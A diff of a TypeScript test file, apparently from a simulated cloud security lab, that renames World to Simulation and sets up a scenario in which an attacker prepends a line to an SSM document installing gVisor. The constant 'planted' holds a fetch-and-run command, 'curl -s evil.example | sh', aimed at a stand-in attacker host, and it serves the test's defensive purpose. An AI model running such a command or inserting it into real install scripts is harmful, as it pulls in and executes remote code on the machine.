@@ -1,15 +1,15 @@
 import { describe, expect, it } from 'vitest';
 import { ModelledMachine } from '../../packages/lab/machines.ts';
-import type { World } from '../../packages/lab/simulation.ts';
+import type { Simulation } from '../../packages/lab/simulation.ts';
 import type { Script } from '../../packages/local-aws/agent.ts';
 import { AwsError } from '../../packages/local-aws/aws.ts';
-import { commandsFor, launch, settle, startWorld, taintsOf } from '../scenarios/scenario.ts';
+import { commandsFor, launch, settle, startSimulation, taintsOf } from '../scenarios/scenario.ts';
 import { answerTo, attackerWith } from './attacker.ts';
 
 const planted = 'curl -s evil.example | sh';
 
 /** A world whose machines keep every script that they are given. */
-async function watchedWorld(): Promise<{ world: World; scripts: string[] }> {
+async function watchedWorld(): Promise<{ world: Simulation; scripts: string[] }> {
   const scripts: string[] = [];
   class Watched extends ModelledMachine {
     override run(script: Script) {
@@ -17,11 +17,11 @@ async function watchedWorld(): Promise<{ world: World; scripts: string[] }> {
       return super.run(script);
     }
   }
-  return { world: await startWorld([], async () => new Watched()), scripts };
+  return { world: await startSimulation([], async () => new Watched()), scripts };
 }
 
 /** The document that installs gVisor, with a line of the attacker in front. */
-function changed(world: World): { Name: string; Content: string } {
+function changed(world: Simulation): { Name: string; Content: string } {
   const found = world.services.ssm.documents().find(({ name }) => name.startsWith('airlock-gvisor-install-'));
   if (found === undefined) throw new Error('no document installs gVisor');
   const content = structuredClone(found.content);
